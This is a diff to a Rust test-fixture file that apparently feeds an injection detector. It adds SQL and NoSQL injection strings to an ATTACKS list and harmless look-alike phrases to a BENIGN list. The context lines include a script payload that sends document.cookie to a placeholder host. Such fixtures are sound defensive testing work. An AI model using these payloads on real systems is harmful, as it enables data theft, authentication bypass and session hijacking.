@@ -69,6 +69,10 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Sqli, Source::User, "ids=in (4,5,6)"),
     (Category::Sqli, Source::User, "col=) AS total FROM"),
     (Category::Sqli, Source::User, "id=OR '{\"k\":1}'::jsonb @> '{\"k\":1}'"),
+    (Category::Sqli, Source::User, "q=AND 4711=("),
+    (Category::Sqli, Source::User, "tbl=INFORMATION_SCHEMA"),
+    (Category::Sqli, Source::User, "user[$ne]=nobody"),
+    (Category::Sqli, Source::User, "id=1\u{2019} OR \u{2019}1\u{2019}=\u{2019}1"),
     // script injection
     (Category::Xss, Source::User, "<script>fetch('//x.example/'+document.cookie)</script>"),
     (Category::Xss, Source::User, "<img src=x onerror=alert(1)>"),
@@ -141,6 +145,8 @@ const BENIGN: &[(Source, &str)] = &[
     (Source::User, "Please compute {{price}} times {{quantity}} in the invoice template."),
     (Source::User, "\"red scarf\" AND \"wool\" AND \"hand made\""),
     (Source::User, "true"),
+    (Source::User, "Round the total to two decimals and tell me if it\u{2019}s over budget."),
+    (Source::User, "and 7 more apples"),
     (Source::User, "How do I call alert() only once when the page loads?"),
 ];
 
